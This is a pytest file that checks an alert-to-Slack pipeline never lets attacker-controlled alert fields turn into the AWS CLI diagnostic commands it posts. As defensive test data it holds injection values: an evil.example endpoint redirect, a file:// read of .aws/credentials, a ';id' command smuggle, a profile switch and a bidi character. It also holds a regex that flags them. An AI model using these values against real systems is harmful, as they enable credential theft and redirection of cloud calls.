"""Every command the pipeline posts, for the built-in scenarios and for hostile alerts, run through the real state
machine and then re-parsed by the AWS CLI's own argument parser.

The parser proves what the validator claims: each posted command resolves to exactly the options it shows (no
abbreviation that means `--endpoint-url`, `--profile`, `--debug` ...), with no value the CLI would read from a file
or URL. The hostile alerts carry the issue's payloads in the places an attacker controls (a custom error's function
name and region, an alarm's name and dimension, a GuardDuty instance id): none of it may reach a command.
"""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from typing import Any

import pytest

from functions.format.logic import MAX_DIAGNOSTICS
from functions.ingest.logic import pipeline_inputs_from_raw
from functions.local_runner.runner import RunResult, run_pipeline_input
from functions.shared.aws_commands import check_command
from tests.support.awscli_parse import assert_cli_parses_as_intended, parse_with_awscli
from tests.support.builtin_runs import builtin_runs

EVENTS = Path(__file__).resolve().parents[1] / "events"
ATTACK = "--function-name=file://.aws/credentials --endpoint https://evil.example"
FORBIDDEN_IN_POSTED = re.compile(
    r"evil\.example|fileb?://|https?://|--endpoint|--profile|--debug|--ca-b|\\u202e|\u202e"
)


def _event(name: str) -> dict[str, Any]:
    return json.loads((EVENTS / name).read_text())


def hostile_alerts() -> dict[str, dict[str, Any]]:
    custom = _event("custom_app_error.json")
    alarm = _event("cloudwatch_alarm_eventbridge.json")
    alarm["detail"]["alarmName"] = "ImageProcessor-Errors' --endpoint-url https://evil.example '"
    alarm["detail"]["configuration"]["metrics"][0]["metricStat"]["metric"]["dimensions"]["FunctionName"] = (
        "ImageProcessor;id"
    )
    guardduty = _event("guardduty_finding.json")
    guardduty["detail"]["resource"]["instanceDetails"]["instanceId"] = "i-0a1b2c3d4e5f60718 --endpoint=https://evil"
    return {
        "custom-function-name-attack": {**custom, "function_name": f"ImageProcessor {ATTACK}"},
        "custom-region-attack": {**custom, "region": "us-east-1 --profile prod"},
        "custom-bidi-name": {**custom, "function_name": "Image\u202eProcessor"},
        "alarm-name-and-dimension-attack": alarm,
        "guardduty-instance-attack": guardduty,
    }


@pytest.fixture(scope="module")
def runs() -> dict[str, RunResult]:
    results = dict(builtin_runs())
    for name, payload in hostile_alerts().items():
        (pipeline_input,) = pipeline_inputs_from_raw(json.dumps(payload))
        results[name] = run_pipeline_input(pipeline_input, quick_retries=True)
    return results


def posted_commands(result: RunResult) -> list[str]:
    """The lines of the posted message's Diagnostics code block, as an engineer would copy them."""
    texts: list[str] = []

    def walk(value: Any) -> None:
        if isinstance(value, dict):
            for child in value.values():
                walk(child)
        elif isinstance(value, list):
            for child in value:
                walk(child)
        elif isinstance(value, str):
            texts.append(value)

    walk(result.slack_message)
    commands: list[str] = []
    for text in texts:
        for block in re.findall(r"\*Diagnostics\*[^\n]*\n```\n(.*?)\n```", text, re.DOTALL):
            commands += [html.unescape(line) for line in block.splitlines() if line.strip()]
    return list(dict.fromkeys(commands))


def test_every_run_succeeds_and_posts(runs: dict[str, RunResult]) -> None:
    for name, result in runs.items():
        assert result.status == "SUCCEEDED", (name, result.error, result.cause)
        assert result.slack_message is not None, name
        assert result.analysis is not None, name


def test_every_posted_command_is_one_the_validator_accepts_unchanged(runs: dict[str, RunResult]) -> None:
    for name, result in runs.items():
        assert result.analysis is not None
        diagnostics = result.analysis["diagnostics"]
        for command in diagnostics:
            assert check_command(command).canonical == command, (name, command)
        # The thread shows the first three (issue 14); the analysis may suggest more
        assert posted_commands(result) == diagnostics[:MAX_DIAGNOSTICS], name


def test_every_posted_command_parses_with_the_aws_cli_as_intended(runs: dict[str, RunResult]) -> None:
    # Given every command posted in every run
    commands = list(dict.fromkeys(c for r in runs.values() if r.analysis for c in r.analysis["diagnostics"]))
    assert len(commands) >= 20

    # When the AWS CLI parses them
    results = parse_with_awscli(commands)

    # Then no option resolves to a forbidden one and nothing would be read from a file or URL
    for command, parsed in zip(commands, results, strict=True):
        assert_cli_parses_as_intended(parsed, command)


def test_nothing_an_attacker_wrote_reaches_a_command(runs: dict[str, RunResult]) -> None:
    for name in hostile_alerts():
        result = runs[name]
        assert result.analysis is not None
        for command in result.analysis["diagnostics"]:
            assert not FORBIDDEN_IN_POSTED.search(command), (name, command)
            assert "ImageProcessor;id" not in command and "ImageProcessor-Errors'" not in command


def test_a_refused_value_is_said_under_unknowns(runs: dict[str, RunResult]) -> None:
    for name in ("custom-function-name-attack", "custom-region-attack", "custom-bidi-name"):
        analysis = runs[name].analysis
        assert analysis is not None
        assert any(u.startswith("No diagnostic command for") for u in analysis["unknowns"]), (name, analysis)
